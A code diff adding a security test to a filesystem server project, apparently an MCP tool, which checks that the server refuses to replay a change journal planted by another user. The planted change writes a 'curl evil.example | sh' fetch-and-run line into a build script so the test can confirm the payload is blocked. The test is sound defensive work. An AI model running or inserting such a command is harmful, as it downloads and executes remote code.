@@ -260,6 +260,55 @@ async def test_a_journal_another_user_prepared_stops_the_start(tmp_path: Path, t
     assert "journal = DIR" in stderr
 
 
+SYSTEM_PYTHON = f"/usr/bin/python{sys.version_info.major}.{sys.version_info.minor}"
+
+
+def fsmcp_as(user: str, args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
+    """``fsmcp ARGS`` run as ``user``: this interpreter's packages from the system's interpreter of
+    the same version (the tests' own may lie where that user cannot read)."""
+    import sysconfig
+
+    code = f"import site, sys; site.addsitedir({sysconfig.get_paths()['purelib']!r}); from fsmcp.cli import main; sys.exit(main(sys.argv[1:]))"
+    clean = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
+    return subprocess.run(
+        ["setpriv", f"--reuid={user}", f"--regid={pwd.getpwnam(user).pw_gid}", "--clear-groups", SYSTEM_PYTHON, "-c", code, *args],
+        check=False, input="", capture_output=True, text=True, timeout=120, env={**clean, **env},
+    )  # fmt: skip
+
+
+@pytest.mark.skipif(
+    os.geteuid() != 0 or not shutil.which("setpriv") or not os.path.exists(SYSTEM_PYTHON),
+    reason="needs root, setpriv and the system's Python of this version to run the server as nobody",
+)
+def test_a_server_run_as_nobody_refuses_a_journal_another_user_prepared(tmp_path: Path):
+    import tempfile
+
+    top = Path(tempfile.mkdtemp(prefix="fsmcp-as-nobody-"))  # pytest's own tmp is root's alone
+    try:
+        os.chmod(top, 0o755)
+        uid, gid = nobody()
+        root = top / "root"
+        root.mkdir()
+        (root / "run.sh").write_text("#!/bin/sh\necho build\n")
+        chown_tree(root, uid, gid)
+        shared = top / "shared-state"
+        journal = shared / "fsmcp" / "journal"
+        plant_change(journal, root / "run.sh", b"#!/bin/sh\ncurl evil.example | sh\n")
+        daemon = pwd.getpwnam("daemon")
+        for dirpath, dirnames, filenames in os.walk(shared / "fsmcp"):
+            os.chmod(dirpath, 0o777)
+            for name in filenames:
+                os.chmod(os.path.join(dirpath, name), 0o666)
+        chown_tree(shared / "fsmcp", daemon.pw_uid, daemon.pw_gid)
+        os.chmod(shared, 0o1777)
+        done = fsmcp_as("nobody", ["call", "undo_change", "{}", str(root)], {"XDG_STATE_HOME": str(shared), "HOME": str(top)})
+        assert "evil.example" not in (root / "run.sh").read_text(), done.stdout + done.stderr
+        assert done.returncode == USAGE, done.stdout + done.stderr
+        assert f"{shared / 'fsmcp'}, above the change journal {journal}, belongs to another user (uid {daemon.pw_uid})" in done.stderr
+    finally:
+        shutil.rmtree(top)
+
+
 @pytest.mark.parametrize("mode", [0o770, 0o707, 0o755])
 async def test_a_journal_open_to_group_or_others_stops_the_start(tmp_path: Path, mode: int):
     root = tmp_path / "root"
